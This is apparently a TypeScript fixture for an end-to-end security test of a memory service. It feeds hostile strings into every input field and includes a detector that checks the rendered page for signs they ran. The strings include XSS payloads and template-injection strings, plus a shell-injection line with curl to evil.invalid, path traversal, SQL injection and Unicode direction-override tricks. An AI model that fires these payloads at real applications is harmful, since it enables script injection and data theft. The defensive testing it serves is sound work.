// Texts that mean to be more than text. Whatever they would do leaves a trace that e2e/hostile.spec.ts looks for: a dialog,
// a request to another host, an element or attribute with "hostile" in it, or the variable window.hostile.
import type { NewConnector, Node } from "orgmem";
import type { Service } from "./service";

const act = "window.hostile=1;alert(1);fetch('https://evil.invalid/x')";

/** Markup and links, by what they try. */
const markup: Record<string, string> = {
  script: `<script data-hostile>${act}</script>`,
  unclosed: `"><script data-hostile src="https://evil.invalid/a.js">`,
  image: `<img data-hostile src="https://evil.invalid/p.png" onerror="${act}">`,
  bare: `<img data-hostile src=x onerror=${act}//`,
  vector: `<svg data-hostile onload="${act}"><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  frame: `<iframe data-hostile srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  object: `<object data-hostile data="data:text/html,<script>parent.hostile=1</script>"></object>`,
  style: `<style data-hostile>*{background:url(https://evil.invalid/s.png)}</style>`,
  refresh: `<meta data-hostile http-equiv="refresh" content="0;url=https://evil.invalid/">`,
  base: `<base data-hostile href="https://evil.invalid/">`,
  form: `<form data-hostile action="https://evil.invalid/"><button autofocus onfocus="${act}">Send</button></form>`,
  details: `<details data-hostile open ontoggle="${act}"><summary>x</summary></details>`,
  element: `<hostile-element data-hostile style="position:fixed;inset:0;background:red">over all</hostile-element>`,
  breakout: `</p></td></tr></table></main></title></textarea></script><h1 data-hostile>hostile</h1>`,
  attribute: `" onmouseover="${act}" data-hostile="' onfocus='${act}' x='`,
  comment: `--><img data-hostile src=x onerror="${act}"><!--`,
  cdata: `]]><img data-hostile src=x onerror="${act}">`,
  entities: `&lt;img data-hostile src=x onerror=&quot;${act}&quot;&gt; &#x3c;b data-hostile&#x3e;`,
  mutation: `<math><mtext><table><mglyph><style><!--</style><img data-hostile title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  javascript: `javascript:${act}`,
  javascriptOdd: `\tjava\nscript\u0001:${act}`,
  data: `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZT0xPC9zY3JpcHQ+`,
  markdown: `[click](javascript:${act}) ![p](https://evil.invalid/m.png) <https://evil.invalid/>`,
  shell: "`; curl https://evil.invalid/$(whoami) #'\"",
};

/** Syntax of templates, of Svelte first. */
const templates: Record<string, string> = {
  svelte: `{@html "<img data-hostile src=x onerror=alert(1)>"}{#if true}{${act}}{/if}{@const x = alert(1)}`,
  braces: `{{constructor.constructor("alert(1)")()}} {{7*7}}`,
  dollar: "${alert(1)} #{7*7} [[${7*7}]]",
  erb: `<%= alert(1) %> {% raw %}{{ x }}{% endraw %}`,
  vue: `<div data-hostile v-html="'<img src=x onerror=alert(1)>'" x-data x-init="alert(1)" :href="'javascript:alert(1)'"></div>`,
};

/** What looks like something else, or like nothing. */
const odd: Record<string, string> = {
  override: "invoice \u202egnp.exe\u202c end",
  unclosedOverride: "\u202e\u2067all that follows is turned",
  isolates: "\u2066\u2067\u2068a\u2069b",
  hebrew: "שלום hostile 123 (עולם)",
  arabic: "مرحبا <b data-hostile>بالعالم</b> 5",
  zeroWidth: "pass\u200bword\u200c\u200d\u2060\ufeff\u00ad",
  combining: "Z\u0351\u036b\u0343\u036a\u0302".repeat(8) + "a" + "\u0300".repeat(60) + "lgo",
  emoji: "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏿" + "❤️‍🔥".repeat(10),
  control: "\u0001\u0007\u001b[31mred\u001b[0m\u0085\u2028\u2029end",
  tags: "a\u{e0041}\u{e0042}\u{e007f}b",
  tall: "﷽".repeat(12) + "𒐫".repeat(6),
  lines: "first\r\nsecond\n\n\n\nfifth\tand a tab",
};

/** Words that a program may take for a value. */
const values = ["null", "undefined", "NaN", "true", "0", "-1", "[object Object]", "__proto__", "constructor", "toString", "1e999", "../../etc/passwd", "%00%2e%2e%2f", "' OR 1=1 --"];

export const texts: readonly string[] = [...Object.values(markup), ...Object.values(templates), ...Object.values(odd)];
export const words: readonly string[] = values;
/** A word that nothing breaks. */
export const long = (length: number): string => "hostile".padEnd(length, "x");

/** What was made of them, as the service has it. */
export interface Made {
  /** One for each text, which is its title, its content and a part of its external id; and one for each word. */
  nodes: Node[];
  /** Has all texts for its content. */
  all: Node;
  labels: string[];
  subjects: string[];
  urls: string[];
  connectors: string[];
  edge: string;
  job: string;
  webhook: string;
  connector: string;
  exported: string;
}

const visible = (text: string): boolean => /[\p{L}\p{N}\p{P}\p{S}]/u.test(text);
const fits = (text: string, bytes: number): boolean => Buffer.byteLength(text) <= bytes;

/** Puts the texts wherever the interface takes a text. */
export async function fill({ memory, receiver }: Service): Promise<Made> {
  const given = [...texts, ...words];
  const items = given.map((text, i) => ({
    content: text.repeat(2),
    title: text.slice(0, 500),
    externalId: `${text}#${i}`.slice(0, 512),
    metadata: { tags: [text, text], [text.slice(0, 200)]: text, nested: { [text.slice(0, 100)]: [{ text }] } },
  }));
  await memory.add([...items, { content: texts.join("\n"), title: "All at once <b data-hostile>", externalId: "hostile-all" }, { content: long(4_000), title: long(400), externalId: "hostile-long" }], {
    wait: true,
    waitFor: 240_000,
  });
  // Two that contradict each other, and say more than they should.
  const job = await memory.add(
    [
      { content: `The bakery is open from 6:30 on weekdays. ${markup["image"]}`, externalId: "hostile-early" },
      { content: `The bakery is open from 7:00 on weekdays. ${markup["script"]}`, externalId: "hostile-late" },
    ],
    { wait: true },
  );
  const nodes = await Promise.all(
    items.map(async ({ externalId }) => {
      const node = await memory.find(externalId);
      if (!node) throw new Error(`nothing has the external id ${JSON.stringify(externalId)}`);
      return node;
    }),
  );
  const all = (await memory.find("hostile-all"))!;
  const edge = await memory.edges.assert({ source: all.id, target: nodes[0]!.id, type: "related" });
  await memory.update(nodes[1]!.id, { title: markup["script"]! });
  await memory.supersede(nodes[2]!.id, `${markup["vector"]} instead`, markup["form"]!);
  await memory.delete(nodes[3]!.id);

  const labels = given.filter((t) => visible(t) && [...t].length <= 200);
  for (const label of labels.slice(0, 24)) await memory.keys.create({ label, scopes: ["read"] });
  for (const label of labels.slice(24)) await memory.sandbox.keys.create({ label, ttlSeconds: 3_600 });

  const subjects = given.filter((t) => fits(t, 256) && !/\p{Cc}/u.test(t)).slice(0, 45);
  for (const id of subjects) {
    await memory.subjects.put(id);
    if (/script|__proto__|gnp/.test(id)) await memory.subject(id).add(`${markup["image"]} of ${id}`);
  }

  const path = (text: string): string => `https://localhost:${receiver.port}/` + text.replace(/[^\x21-\x7e]/g, "_");
  const urls = [...Object.values(markup), ...Object.values(templates)].map(path).slice(0, 15);
  const hooks = [];
  for (const address of urls) hooks.push(await memory.webhooks.create({ url: address, eventTypes: ["webhook.test"] }));
  await memory.webhooks.test(hooks[0]!.id);

  const connectors = labels.slice(0, 20);
  let connector = "";
  for (const name of connectors)
    // The generated type of config is that of no kind: see src/views/trust/connectors.ts.
    connector = (await memory.connectors.create({ type: "feed", name, enabled: false, config: { url: path(name) } } as unknown as NewConnector)).id;

  // A file's name and a session's id are the client's, too. Neither is waited for: what they become is not looked at by name.
  await memory.imports.upload(new File([`${markup["image"]}\n\nA letter about ${markup["script"]}.`], `${markup["element"]}.md`));
  await memory.sessions.push({ sessionId: markup["script"]!, role: "user", text: `${markup["image"]} ${odd["override"]}`, cwd: markup["element"]! });
  const { exportId } = await memory.exports.create({});
  return { nodes, all, labels: labels.slice(0, 24), subjects, urls, connectors, edge: edge.id, job: job.id, webhook: hooks[0]!.id, connector, exported: exportId };
}

/** What a hostile text has become beside text. It runs in the page, and so uses nothing from here. */
export function traces(): string[] {
  const found: string[] = [];
  const say = (what: string, element: Element): void => void found.push(`${what}: ${element.outerHTML.slice(0, 160)}`);
  for (const e of document.querySelectorAll("[data-hostile], hostile-element, iframe, object, embed, base, meta[http-equiv]")) say("an element", e);
  for (const e of document.querySelectorAll("*"))
    for (const { name, value } of e.attributes) {
      if (name.startsWith("on") || name === "srcdoc") say(`the attribute ${name}`, e);
      if (["href", "src", "action", "formaction", "xlink:href", "data"].includes(name)) {
        const url = new URL(value, location.href);
        if (!["http:", "https:", "blob:", "mailto:"].includes(url.protocol)) say(`a link of ${url.protocol}`, e);
        if (name !== "href" && url.origin !== location.origin) say("something from elsewhere", e);
      }
    }
  if ("hostile" in window) found.push("a script has run");
  // An override of direction must not reach what stands beside it: between them and it there is an isolation.
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let text = texts.nextNode(); text; text = texts.nextNode()) {
    if (!/[\u202a-\u202e\u2066-\u2069]/.test(text.textContent ?? "")) continue;
    let e = text.parentElement;
    if (!e || e.closest("option, title, script, style, textarea")) continue;
    for (; e; e = e.parentElement) {
      const { display, unicodeBidi } = getComputedStyle(e);
      if (unicodeBidi === "plaintext" || (display.startsWith("inline") && unicodeBidi !== "normal")) break;
      if (!display.startsWith("inline") && display !== "contents") {
        if (e.textContent?.trim() !== text.textContent?.trim()) say("a direction that reaches other text", e);
        break;
      }
    }
  }
  return found;
}
